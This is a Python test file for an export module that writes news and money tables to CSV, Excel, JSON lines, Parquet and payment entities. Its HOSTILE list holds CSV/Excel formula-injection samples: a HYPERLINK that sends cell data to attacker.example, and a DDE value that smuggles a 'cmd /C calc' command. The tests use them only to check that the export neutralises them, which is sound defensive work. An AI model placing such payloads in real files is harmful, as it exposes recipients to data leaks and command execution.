"""Tables as files: what a spreadsheet must never run, what each format brings back, and payments for Aleph."""

import csv
import io
import json
import os
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pandas as pd
import pyarrow as pa
import pytest

from flows.export.export import Format, export
from schemas.catalog import BY_NAME
from schemas.conform import conform
from schemas.errors import BadInput, LakeError, UnknownName
from tasks.lake import scan
from tasks.lake.lake import Change, Lake

HOSTILE = ['=HYPERLINK("https://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
HOSTILE += ["\tindented by a tab", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1"]
HARMLESS = [
    "Aid of -5m",
    "a=b",
    "https://a.example/=1",
    "'quoted'",
    'He said "=1", twice',
    "two\nlines",
    "Łódź, 5 €",
]
TITLES = HOSTILE + HARMLESS
DAYS = [datetime(2022, 9, 30, 8, 30, tzinfo=UTC), datetime(2022, 10, 15, 12, 0, 0, 250_000, tzinfo=UTC)]


def article(number: int, title: str) -> dict[str, Any]:
    return {
        "article_id": f"a{number:02}",
        "document_id": f"d{number:02}",
        "title": title,
        "url": f"https://outlet.example/{number}",
        "source": "outlet.example",
        "body": title,
        "published_at": DAYS[number % 2],
        "published_basis": "given",
        "text_hash": "h",
        "versions": 1,
        "first_seen_at": DAYS[0],
    }


def flow(number: int, **told: Any) -> dict[str, Any]:
    amount = told.pop("amount", 725_000_000.0)
    return {
        "mention_id": f"m{number}",
        "article_id": "a00",
        "figure_id": f"f{number}",
        "published_at": DAYS[number % 2],
        "start": number,
        "end": number + 1,
        "surface": "x",
        "sentence": "=cmd",
        "amount": amount,
        "amount_exact": Decimal(str(amount)),
        "currency": "USD",
        "qualifier": "exact",
        "figure_type": "flow",
        "status": "planned",
        "addable": True,
    } | told


MONEY = [
    flow(0, payer="Washington", payer_id="US", recipient="Kelby", recipient_id="org:kelby-mills", purpose="-aid"),
    flow(1, payer="Mr Kelby", payer_id="person:jo-kelby", recipient_id="US", amount=-1.5, addable=False),
    flow(2, payer="a trust", recipient="the town", recipient_id="place:kelby"),
    flow(3, status="denied"),
    flow(4, per="week"),
    flow(5, figure_type="price"),
    flow(6, conversion_of="m2", currency="EUR", addable=False),
]
NAMES = [("country:US", "United States"), ("org:kelby-mills", "Kelby Mills"), ("person:jo-kelby", "Jo Kelby")]


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Lake:
    """A lake with hostile titles and money of every kind."""
    made = Lake.open(tmp_path_factory.mktemp("export") / "lake")
    mentions = [
        {"article_id": "a00", "published_at": DAYS[0], "start": n, "end": n + 1, "surface": "x", "label": "ORG"}
        | {"entity_id": identity, "name": name}
        for n, (identity, name) in enumerate(NAMES)
    ]
    rows = {"articles": [article(*one) for one in enumerate(TITLES)], "money": MONEY, "entities": mentions}
    made.publish(lambda _: [Change(BY_NAME[name], conform(found, BY_NAME[name])) for name, found in rows.items()])
    return made


def written(lake: Lake, table: str, form: Format, out: Path, **narrowed: Any) -> dict[str, Any]:
    """What export tells, with no bounds unless they are given."""
    return export(lake, table, form, str(out), **({"since": None, "until": None, "addable": False} | narrowed))


def cells(path: Path, sheet: int = 1) -> list[list[tuple[str, str]]]:
    """Type and text of each cell of a workbook's sheet, row by row; the type of a formula is `formula`."""
    space = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    root = ElementTree.fromstring(zipfile.ZipFile(path).read(f"xl/worksheets/sheet{sheet}.xml"))
    kinds = {True: "formula"}
    return [
        [(kinds.get(one.find("x:f", space) is not None, one.get("t", "n")), "".join(one.itertext())) for one in row]
        for row in root.iterfind(".//x:row", space)
    ]


def test_no_cell_of_a_csv_begins_a_formula(lake: Lake, tmp_path: Path) -> None:
    written(lake, "articles", "csv", tmp_path / "a.csv")
    text = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(row["title"] for row in rows) == sorted([f"'{one}" for one in HOSTILE] + HARMLESS)
    begun = {value[:1] for row in rows for value in row.values()}
    assert not begun & set("=+-@\t\r\n＝")


def test_a_csv_opens_in_pandas_with_its_types(lake: Lake, tmp_path: Path) -> None:
    written(lake, "money", "csv", tmp_path / "m.csv")
    money = pd.read_csv(tmp_path / "m.csv", parse_dates=["published_at"]).set_index("mention_id")
    assert money["amount"].dtype == "float64"
    assert money["addable"].dtype == "bool"
    assert money.loc["m1", "amount"] == -1.5  # a negative number is no text
    assert money.loc["m0", ["published_at", "purpose"]].tolist() == [pd.Timestamp("2022-09-30 08:30"), "'-aid"]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(lake: Lake, tmp_path: Path) -> None:
    written(lake, "articles", "xlsx", tmp_path / "a.xlsx")
    rows = cells(tmp_path / "a.xlsx")
    titles = [row[rows[0].index(("inlineStr", "title"))] for row in rows[1:]]
    assert len(titles) == len(TITLES)
    assert {kind for row in rows for kind, _ in row} <= {"inlineStr", "n"}
    assert ("inlineStr", f"'{HOSTILE[0]}") in titles
    assert not [text for _, text in titles if text.startswith(("=", "+", "-", "@"))]
    assert not [name for name in zipfile.ZipFile(tmp_path / "a.xlsx").namelist() if "rels/sheet" in name]


def test_numbers_of_a_workbook_stay_numbers_and_a_sheet_tells_the_columns(lake: Lake, tmp_path: Path) -> None:
    written(lake, "money", "xlsx", tmp_path / "m.xlsx")
    heads, first, *_ = cells(tmp_path / "m.xlsx")
    told = dict(zip((name for _, name in heads), first, strict=False))
    assert told["mention_id"] == ("inlineStr", "m0")
    assert ("n", "725000000") in first
    assert ("inlineStr", "meaning") in cells(tmp_path / "m.xlsx", sheet=2)[0]


def test_a_text_longer_than_a_cell_is_cut(tmp_path: Path) -> None:
    made = Lake.open(tmp_path / "lake")
    long = conform([article(0, "x" * 40_000)], BY_NAME["articles"])
    made.publish(lambda _: [Change(BY_NAME["articles"], long)])
    written(made, "articles", "xlsx", tmp_path / "a.xlsx")
    assert max(len(text) for row in cells(tmp_path / "a.xlsx") for _, text in row) == 32_767


def test_json_lines_hold_the_rows_as_they_are(lake: Lake, tmp_path: Path) -> None:
    written(lake, "articles", "jsonl", tmp_path / "a.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(row["title"] for row in rows) == sorted(TITLES)
    assert {row["published_at"] for row in rows} == {day.isoformat() for day in DAYS}


def test_parquet_holds_the_rows_and_their_meanings(lake: Lake, tmp_path: Path) -> None:
    written(lake, "money", "parquet", tmp_path / "m.parquet")
    money = pd.read_parquet(tmp_path / "m.parquet")
    assert money["payer_start"].dtype == "Int32"
    assert money.attrs["columns"]["amount"]["meaning"]
    assert len(money) == len(MONEY)


@pytest.mark.parametrize("form", ["csv", "xlsx", "jsonl", "parquet"])
def test_the_dictionary_stands_beside(lake: Lake, tmp_path: Path, form: Format) -> None:
    told = written(lake, "money", form, tmp_path / f"m.{form}")
    about = pd.read_csv(tmp_path / "m.columns.csv")
    assert told == {"file": str(tmp_path / f"m.{form}"), "rows": len(MONEY), "columns": str(tmp_path / "m.columns.csv")}
    assert about["column"].tolist() == BY_NAME["money"].schema.names
    assert about["meaning"].notna().all()


@pytest.mark.parametrize(
    ("narrowed", "rows"),
    [
        ({"since": "2022-10"}, 3),
        ({"until": "2022-09-30"}, 4),
        ({"since": "2022", "until": "2022"}, 7),
        ({"since": "2023"}, 0),
        ({"addable": True}, 5),
        ({"since": "2022-10-15", "addable": True}, 2),
    ],
    ids=str,
)
def test_rows_are_chosen(lake: Lake, tmp_path: Path, narrowed: dict[str, Any], rows: int) -> None:
    assert written(lake, "money", "csv", tmp_path / "m.csv", **narrowed)["rows"] == rows


@pytest.mark.parametrize(
    ("table", "form", "narrowed", "error", "told"),
    [
        ("mony", "csv", {}, UnknownName, "No table 'mony'"),
        ("articles", "ftm", {}, BadInput, "export money or figures"),
        ("articles", "csv", {"addable": True}, UnknownName, "No column in articles 'addable'"),
        ("money", "csv", {"since": "October"}, BadInput, "write it like 2022"),
    ],
    ids=["table", "no_payments", "addable", "date"],
)
def test_a_mistake_is_told_and_writes_nothing(
    lake: Lake, tmp_path: Path, table: str, form: Format, narrowed: dict[str, Any], error: type[Exception], told: str
) -> None:
    with pytest.raises(error, match=told):
        written(lake, table, form, tmp_path / "x", **narrowed)
    with pytest.raises(BadInput, match="make it first"):
        written(lake, "money", "csv", tmp_path / "no" / "x.csv")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", ["csv", "xlsx", "jsonl", "parquet", "ftm"])
def test_a_lake_with_nothing_gives_a_file_with_nothing(tmp_path: Path, form: Format) -> None:
    empty = Lake.open(tmp_path / "lake")
    assert written(empty, "money", form, tmp_path / f"m.{form}")["rows"] == 0
    columns = BY_NAME["money"].schema.names
    if form == "csv":
        assert pd.read_csv(tmp_path / "m.csv").columns.tolist() == columns
    if form == "xlsx":
        assert [[name for _, name in row] for row in cells(tmp_path / "m.xlsx")] == [columns]
    if form == "parquet":
        assert pd.read_parquet(tmp_path / "m.parquet").dtypes["payer_start"] == "Int32"
    if form in ("jsonl", "ftm"):
        assert (tmp_path / f"m.{form}").read_bytes() == b""


def test_a_lake_that_is_written_meanwhile_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = Lake.open(tmp_path / "lake")
    rows = [conform([article(number, "x")], BY_NAME["articles"]) for number in range(2)]
    made.publish(lambda _: [Change(BY_NAME["articles"], rows[0])])
    batches = scan.batches

    def interrupted(*asked: Any) -> Iterator[pa.Table]:
        yield from batches(*asked)
        made.publish(lambda _: [Change(BY_NAME["articles"], rows[1])])

    monkeypatch.setattr(scan, "batches", interrupted)
    with pytest.raises(LakeError, match="was written while articles was read: do it once more"):
        written(made, "articles", "csv", tmp_path / "a.csv")
    assert [path.name for path in tmp_path.iterdir()] == ["lake"]


def test_a_pipe_is_written_into_and_stays(lake: Lake, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with ThreadPoolExecutor() as pool:
        read = pool.submit(pipe.read_bytes)
        written(lake, "money", "jsonl", pipe)
    assert len(read.result().splitlines()) == len(MONEY)
    assert pipe.is_fifo()


def payments(lake: Lake, out: Path) -> list[dict[str, Any]]:
    written(lake, "money", "ftm", out)
    return [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]


def test_payments_name_their_parties(lake: Lake, tmp_path: Path) -> None:
    found = payments(lake, tmp_path / "m.ftm.json")
    parties = {one["id"]: one for one in found if one["schema"] != "Payment"}
    paid = {one["properties"]["recordId"][0]: one["properties"] for one in found if one["schema"] == "Payment"}
    assert set(paid) == {"m0", "m1", "m2"}  # a denied one, a weekly rate, a price and a conversion are no payments
    first = paid["m0"]
    state, mills = parties[first["payer"][0]], parties[first["beneficiary"][0]]
    assert (state["schema"], state["properties"]) == ("PublicBody", {"name": ["United States"], "country": ["us"]})
    assert (mills["schema"], mills["properties"]) == ("Organization", {"name": ["Kelby Mills"]})
    assert parties[paid["m1"]["payer"][0]]["schema"] == "Person"
    assert paid["m1"]["beneficiary"] == first["payer"]  # one state, one entity
    assert [parties[paid["m2"][role][0]]["schema"] for role in ("payer", "beneficiary")] == ["LegalEntity"] * 2
    assert len(parties) == 5
    told = [first[name] for name in ("amount", "currency", "date", "sourceUrl", "publisher", "purpose")]
    assert told[:3] == [["725000000"], ["USD"], ["2022-09-30"]]
    assert told[3:] == [["https://outlet.example/0"], ["outlet.example"], ["-aid"]]


def test_payments_are_in_the_form_of_the_stream(lake: Lake, tmp_path: Path) -> None:
    found = payments(lake, tmp_path / "m.ftm.json")
    seen: set[str] = set()
    for one in found:
        assert set(one) == {"id", "schema", "properties"}
        assert all(isinstance(value, str) for values in one["properties"].values() for value in values)
        assert one["id"] not in seen
        assert {one["properties"].get(role, [None])[0] for role in ("payer", "beneficiary")} - {None} <= seen
        seen.add(one["id"])
    assert found == payments(lake, tmp_path / "again.ftm.json")
